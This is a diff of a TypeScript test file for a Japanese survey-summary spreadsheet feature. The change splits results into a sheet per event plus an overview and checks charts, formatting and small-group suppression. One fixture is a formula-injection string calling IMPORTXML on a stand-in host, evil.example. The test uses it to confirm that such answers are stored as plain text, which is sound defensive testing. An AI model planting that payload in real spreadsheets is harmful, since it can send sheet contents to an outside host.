@@ -95,71 +95,79 @@ function prepare(opts: { seminarAnswers?: number } = {}) {
 function mean(xs: number[]) { return xs.reduce((a, b) => a + b, 0) / xs.length; }
 
 describe('アンケートを集計 on the emulator', () => {
-  test('writes each event\'s figures (recomputed here), free text as text, a chart per scale question; re-run replaces', () => {
+  test('writes each event\'s sheet (figures recomputed here), free text as text, a chart per scale question, and the overview; re-run replaces', () => {
     const { emu, ss, answers } = prepare();
     const result = summariseSurveysInSheet(ss);
     expect(result.events.map((e) => e.id)).toEqual(['EV-SEMINAR', 'EV-WORKSHOP']);
-    const out = sheet(emu, 'アンケート集計');
-    const values = out.getDataRange().getValues();
-    const formulas = out.getDataRange().getFormulas();
+    expect(result.eventSheets).toEqual(['アンケート集計_EV-SEMINAR', 'アンケート集計_EV-WORKSHOP']);
+    const overview = sheet(emu, 'アンケート集計').getDataRange().getValues();
+    const head = overview.findIndex((r) => r[0] === '行事id');
+    let charts = 0;
     for (const ev of result.events) {
+      const out = sheet(emu, `アンケート集計_${ev.id}`);
+      const values = out.getDataRange().getValues();
+      const formulas = out.getDataRange().getFormulas();
       const mine = answers.filter((a) => a.eventId === ev.id);
       expect(ev.responses).toBe(mine.length);
       const attended = ev.id === 'EV-SEMINAR' ? 40 - 5 : 30 - 3; // 出席 unticked every 8th / 10th (waiting-list people who came count)
       expect(ev.responseRate).toBeCloseTo(Math.round((mine.length / attended) * 1000) / 1000, 10);
-      const start = values.findIndex((r) => String(r[0]).includes(`（${ev.id}）`));
-      expect(start).toBeGreaterThanOrEqual(0);
-      expect(values[start + 1]!.slice(0, 4)).toEqual(['回答数', mine.length, '出席者数', attended]);
+      expect(String(values[0]![0])).toContain(`（${ev.id}）`);
+      const counts = values.findIndex((r) => r[0] === '回答数');
+      expect(values[counts]!.slice(0, 4)).toEqual(['回答数', mine.length, '出席者数', attended]);
+      const line = overview.find((r) => r[0] === ev.id)!;
+      expect(line.slice(3, 5)).toEqual([mine.length, attended]);
       const scales = ev.id === 'EV-WORKSHOP' ? [...SCALES, '演習の実践度'] : SCALES;
       for (const q of scales) {
         const xs = mine.map((a) => Number(a.answers[q]));
         expect(ev.means[q]).toBeCloseTo(Math.round(mean(xs) * 100) / 100, 10);
-        const row = values.slice(start).find((r) => r[0] === q)!;
+        const row = values.find((r) => r[0] === q)!;
         expect(row[1]).toBe(xs.length);
         expect(row[2]).toBeCloseTo(mean(xs), 10);
         expect(row[3]).toBeCloseTo(xs.filter((x) => x >= 4).length / xs.length, 10);
+        expect(line[overview[head]!.indexOf(`${q}（平均）`)]).toBeCloseTo(mean(xs), 10);
       }
       // Distribution table: values 1..5 down the rows, one column per question.
-      const dist = start + values.slice(start).findIndex((r) => r[0] === '回答の分布（人）');
+      const dist = values.findIndex((r) => r[0] === '回答の分布（人）');
       for (let v = 1; v <= 5; v++) {
         expect(values[dist + v]![0]).toBe(String(v));
         scales.forEach((q, i) => expect(values[dist + v]![1 + i]).toBe(mine.filter((a) => a.answers[q] === String(v)).length));
       }
+      // Headings are bold (one setFontWeights per sheet), answers are not.
+      const weights = out.getDataRange().getFontWeights();
+      const heading = values.findIndex((row) => row[0] === '5段階評価');
+      expect([weights[heading]![0], weights[heading + 1]![0]]).toEqual(['bold', 'normal']);
+      expect(formulas.flat().every((f) => f === '')).toBe(true);
+      // Charts: one per scale question, reading the value column and that question's column.
+      const records = out.chartStore.records();
+      expect(records).toHaveLength(scales.length);
+      charts += records.length;
+      for (const c of records) {
+        expect(c.type).toBe('COLUMN');
+        expect(c.ranges).toHaveLength(2);
+        const q = c.title!.split('：')[1]!;
+        const [, second] = c.ranges.map((a) => /!([A-Z]+)(\d+):([A-Z]+)(\d+)/.exec(a)!);
+        const col = second![1]!.charCodeAt(0) - 64;
+        expect(values[Number(second![2]) - 1]![col - 1]).toBe(q);
+      }
     }
-    // Headings are bold (one setFontWeights for the whole grid), answers are not.
-    const weights = out.getDataRange().getFontWeights();
-    const heading = values.findIndex((row) => row[0] === '5段階評価');
-    expect([weights[heading]![0], weights[heading + 1]![0]]).toEqual(['bold', 'normal']);
-    expect(emu.ledger.byMethod()['SpreadsheetApp.Range.setFontWeights']).toBe(1);
+    expect(result.charts).toBe(charts);
+    expect(emu.ledger.byMethod()['SpreadsheetApp.Range.setFontWeights']).toBe(3);
     // Free text: the formula-looking answer is stored as the words typed, never a formula.
-    const r = values.findIndex((row) => row[0] === '=IMPORTXML("https://evil.example","//a")');
+    const seminar = sheet(emu, 'アンケート集計_EV-SEMINAR');
+    const r = seminar.getDataRange().getValues().findIndex((row) => row[0] === '=IMPORTXML("https://evil.example","//a")');
     expect(r).toBeGreaterThan(0);
-    expect(formulas[r]![0]).toBe('');
-    expect(formulas.flat().every((f) => f === '')).toBe(true);
-    // Charts: one per scale question per event, reading the value column and that question's column.
-    const charts = out.chartStore.records();
-    expect(charts).toHaveLength(SCALES.length + SCALES.length + 1);
-    expect(result.charts).toBe(charts.length);
-    for (const c of charts) {
-      expect(c.type).toBe('COLUMN');
-      expect(c.ranges).toHaveLength(2);
-      const q = c.title!.split('：')[1]!;
-      const [, second] = c.ranges.map((a) => /!([A-Z]+)(\d+):([A-Z]+)(\d+)/.exec(a)!);
-      const col = second![1]!.charCodeAt(0) - 64;
-      expect(values[Number(second![2]) - 1]![col - 1]).toBe(q);
-    }
+    expect(seminar.getDataRange().getFormulas()[r]![0]).toBe('');
     // Re-running rewrites in place: same charts, same values.
+    const before = seminar.getDataRange().getValues();
     summariseSurveysInSheet(ss);
-    expect(out.chartStore.records()).toHaveLength(charts.length);
-    expect(out.getDataRange().getValues()).toEqual(values);
+    expect(seminar.chartStore.records()).toHaveLength(SCALES.length);
+    expect(seminar.getDataRange().getValues()).toEqual(before);
   });
 
   test('n ≥ 5: the cross-tabs and attribute counts on the sheet show no group under 5', () => {
     const { emu, ss, answers } = prepare();
     summariseSurveysInSheet(ss);
-    const values = sheet(emu, 'アンケート集計').getDataRange().getValues();
-    const workshopStart = values.findIndex((r) => String(r[0]).includes('（EV-WORKSHOP）'));
-    const seminar = values.slice(0, workshopStart);
+    const seminar = sheet(emu, 'アンケート集計_EV-SEMINAR').getDataRange().getValues();
     const gov = answers.filter((a) => a.eventId === 'EV-SEMINAR' && a.answers['所属種別'] === '行政').length;
     expect(gov).toBeLessThan(5);
     // 行政 (3 people) never appears as its own row; its people are inside a merged その他 group or not shown.
@@ -183,7 +191,7 @@ describe('アンケートを集計 on the emulator', () => {
     const ss = SpreadsheetApp.getActiveSpreadsheet();
     setUpWorkbook(ss, 'ja');
     const r = summariseSurveysInSheet(ss);
-    expect(r).toEqual({ sheet: 'アンケート集計', events: [], charts: 0, problems: [] });
+    expect(r).toEqual({ sheet: 'アンケート集計', eventSheets: [], events: [], charts: 0, problems: [] });
     expect(surveyDoneMessage(r, 'ja')).toContain('アンケートのある行事がありません');
   });
 
@@ -194,9 +202,9 @@ describe('アンケートを集計 on the emulator', () => {
     const large = prepare({ seminarAnswers: 330 });
     summariseSurveysInSheet(large.ss);
     expect(large.emu.ledger.byService()['SpreadsheetApp']).toBe(few);
-    // Beyond one chart per scale question (an artifact each), a few dozen calls: one read per sheet, one batch write.
+    // Beyond one chart per scale question (an artifact each): one read per source sheet, about ten calls per sheet written.
     const charts = Object.entries(large.emu.ledger.byMethod()).filter(([m]) => /EmbeddedChart|Chart$|newChart|removeChart/.test(m) || m.endsWith('Sheet.getRange')).reduce((n, [, c]) => n + c, 0);
-    expect(few! - charts).toBeLessThan(40);
+    expect(few! - charts).toBeLessThan(30 + 10 * 3);
   });
 });
 
